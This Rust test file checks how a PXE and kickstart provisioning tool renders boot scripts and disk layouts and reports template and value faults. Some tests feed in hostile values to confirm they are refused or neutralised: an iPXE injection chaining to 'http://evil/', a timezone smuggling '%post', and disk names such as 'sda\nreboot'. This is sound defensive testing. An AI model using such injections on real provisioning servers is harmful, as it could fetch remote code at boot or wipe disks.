//! What is served, and how faults in templates and values are reported.

use std::collections::BTreeMap;

use super::*;
use crate::site::testing::paper_site;

fn on(disk: &str) -> BTreeMap<String, String> {
    BTreeMap::from([("os".to_string(), disk.to_string())])
}

fn token() -> BootToken {
    BootToken::from_random([0; 16])
}

fn own(files: BTreeMap<String, String>) -> Templates {
    Templates { folder: String::new(), files }
}

#[test]
fn the_storage_section_of_table_2_is_exactly_this() {
    let site = paper_site();
    let node = site.node_by_name("compute2").unwrap();
    let renderer = Renderer::new().unwrap();
    let plan = plan::plan(node).unwrap();
    let text = renderer.storage_section(node, &plan, &on("sda"), WipeScope::BlankDiskOnly).unwrap();
    let expected = "\
# rackstart: storage of compute2 on sda
# scope: blank-disk-only
# disk of os: sda
zerombr
ignoredisk --only-use=sda
clearpart --all --initlabel --drives=sda
bootloader --location=mbr --driveorder=sda
part /boot --fstype=ext4 --size=500 --ondisk=sda --asprimary
part pv.01 --size=21000 --ondisk=sda --asprimary
part pv.02 --size=216974 --ondisk=sda
volgroup vg_base --pesize=4096 pv.01
volgroup vg_gluster --pesize=4096 pv.02
logvol / --vgname=vg_base --name=lv_root --size=10000 --fstype=ext4
logvol swap --vgname=vg_base --name=lv_swap --size=6000 --fstype=swap
logvol /home --vgname=vg_base --name=lv_home --size=4996 --fstype=ext4
logvol /export/gluster --vgname=vg_gluster --name=lv_gluster --size=216972 --fstype=xfs
# rackstart: end of storage
";
    assert_eq!(text, expected);
}

#[test]
fn nothing_that_is_served_before_the_permit_can_touch_a_disk() {
    let site = paper_site();
    let renderer = Renderer::new().unwrap();
    for node in &site.nodes {
        let text = renderer.kickstart(&site, node, &token()).unwrap();
        let commands = ["zerombr", "clearpart", "part ", "volgroup", "logvol", "bootloader", "autopart"];
        for line in text.lines() {
            assert!(!commands.iter().any(|command| line.starts_with(command)), "{line}");
        }
        assert!(text.contains("\n%include /tmp/rackstart-storage.ks\n"));
    }
}

#[test]
fn the_whole_site_can_be_served() {
    assert_eq!(prove(&Renderer::new().unwrap(), &paper_site()), []);
}

#[test]
fn the_installer_is_started_with_the_arguments_of_its_release() {
    let site = paper_site();
    let mut node = site.node_by_name("compute2").unwrap().clone();
    node.kernel_args = "console=ttyS0".into();
    let renderer = Renderer::new().unwrap();
    let script = renderer.boot_script_install(&site, &node, &token()).unwrap();
    let kernel = "kernel http://192.168.0.254/tree/centos6/images/pxeboot/vmlinuz initrd=initrd.img \
                  syslog=192.168.0.254:514 ks=http://192.168.0.254/kickstart/00000000000000000000000000000000 ksdevice=bootif \
                  BOOTIF=01-52-54-00-a8-02-01 kssendmac kssendsn method=http://192.168.0.254/tree/centos6 ip=dhcp \
                  noipv6 cmdline console=ttyS0 || goto away\n";
    assert!(script.starts_with("#!ipxe\n") && script.contains(kernel), "{script}");
    node.release = "9".parse().unwrap();
    let script = renderer.boot_script_install(&site, &node, &token()).unwrap();
    let kernel = "initrd=initrd.img inst.syslog=192.168.0.254:514 inst.ks=http://192.168.0.254/kickstart/00000000000000000000000000000000 \
                  BOOTIF=01-52-54-00-a8-02-01 inst.ks.sendmac inst.ks.sendsn \
                  inst.repo=http://192.168.0.254/tree/centos6 inst.nosave=all_ks ip=dhcp inst.cmdline console=ttyS0 || goto away\n";
    assert!(script.contains(kernel), "{script}");
    let mut quiet = site.clone();
    quiet.server.syslog = false;
    assert!(!renderer.boot_script_install(&quiet, &node, &token()).unwrap().contains("syslog"));
}

#[test]
fn a_machines_own_words_cannot_become_boot_script_commands() {
    let site = paper_site();
    let renderer = Renderer::new().unwrap();
    let reason = "x\nchain http://evil/ || ${net0/mac} && y";
    let script = renderer.boot_script_local_disk(&site.nodes[0], reason).unwrap();
    assert!(script.contains("boots its own disk: x chain http://evil/ net0/mac y\n"), "{script}");
    assert!(script.contains("\nsanboot --no-describe --drive 0x80 || exit 1\n"), "{script}");
    assert!(script.contains("\nchain file://RACKSTART/EFI/BOOT/BOOTX64.EFI ||\nexit 1\n"), "{script}");
}

#[test]
fn an_undefined_name_is_told_with_template_line_and_suggestion() {
    let text = "timezone {{ timezone }}\nurl --url={{ tree_ulr }}\n";
    let overrides = BTreeMap::from([("kickstart/parts/commands-el6.ks.j2".to_string(), text.to_string())]);
    let site = paper_site();
    let renderer = Renderer::with_templates(own(overrides)).unwrap();
    let error = renderer.kickstart(&site, &site.nodes[0], &token()).unwrap_err();
    assert_eq!(error.to_string(), "kickstart/parts/commands-el6.ks.j2:2: `tree_ulr` is not defined");
    assert_eq!(error.help().as_deref(), Some("did you mean `tree_url`?"));
    assert_eq!(prove(&renderer, &site).len(), 5, "one fault for each node, not one for each text");
}

#[test]
fn a_template_that_does_not_parse_is_told_when_it_is_read() {
    let overrides = BTreeMap::from([("kickstart/base.ks.j2".to_string(), "a\n{% if x %}\n".to_string())]);
    let error = Renderer::with_templates(own(overrides)).err().unwrap();
    assert_eq!(error.template, "kickstart/base.ks.j2");
    assert!(error.line.is_some());
}

#[test]
fn an_endless_loop_ends() {
    let text = "{% for a in range(9999) %}{% for b in range(9999) %}{{ a }}{% endfor %}{% endfor %}";
    let overrides = BTreeMap::from([("kickstart/base.ks.j2".to_string(), text.to_string())]);
    let site = paper_site();
    let error =
        Renderer::with_templates(own(overrides)).unwrap().kickstart(&site, &site.nodes[0], &token()).unwrap_err();
    assert!(error.to_string().contains("too many steps"), "{error}");
}

#[test]
fn a_value_with_a_line_break_is_refused_by_name() {
    let mut site = paper_site();
    site.timezone = "UTC\n%post".into();
    let renderer = Renderer::new().unwrap();
    let error = renderer.kickstart(&site, &site.nodes[0], &token()).unwrap_err();
    let expected = "kickstart/base.ks.j2: the value of `timezone` holds a line break or another control character";
    assert_eq!(error.to_string(), expected);
    site.timezone = "%end".into();
    let error = renderer.kickstart(&site, &site.nodes[0], &token()).unwrap_err();
    assert!(error.to_string().contains("`timezone` begins with `%`"), "{error}");
    site.timezone = "UTC # no".into();
    let error = renderer.kickstart(&site, &site.nodes[0], &token()).unwrap_err();
    assert!(error.to_string().contains("commands-el6.ks.j2:9: the value of `timezone` holds a `#`"), "{error}");
}

#[test]
fn a_disk_name_from_the_wire_is_checked() {
    let site = paper_site();
    let node = site.node_by_name("compute2").unwrap();
    let (renderer, plan) = (Renderer::new().unwrap(), plan::plan(node).unwrap());
    let section = |disk: &str| renderer.storage_section(node, &plan, &on(disk), WipeScope::DestroyData);
    for disk in ["sda", "nvme0n1", "cciss/c0d0", "mapper/mpath-a"] {
        assert!(section(disk).unwrap().contains(&format!("clearpart --all --initlabel --drives={disk}\n")));
    }
    for hostile in ["", "sda sdb", "sda,sdb", "../sda", "sda\nreboot", "-a", "/sda", "SDA", &"a".repeat(41)] {
        assert!(section(hostile).is_err(), "{hostile:?}");
    }
}

#[test]
fn the_readme_lists_every_variable_of_the_kickstart_templates() {
    let site = paper_site();
    let node = site.node_by_name("controller").unwrap();
    let (plan, token) = (plan::plan(node).unwrap(), token());
    let kickstart = serde_json::to_value(KickstartValues::new(&site, node, &plan, &token)).unwrap();
    let storage =
        serde_json::to_value(StorageValues::new(node, &plan, &on("sda"), WipeScope::DestroyData, &[])).unwrap();
    let readme = include_str!("../../kickstart/README.md");
    fn check(value: &serde_json::Value, readme: &str) {
        match value {
            serde_json::Value::Object(fields) => fields.iter().for_each(|(name, field)| {
                assert!(readme.contains(&format!("`{name}`")), "`{name}` is not listed");
                check(field, readme);
            }),
            serde_json::Value::Array(items) => items.iter().for_each(|item| check(item, readme)),
            _ => {}
        }
    }
    check(&kickstart, readme);
    check(&storage, readme);
}
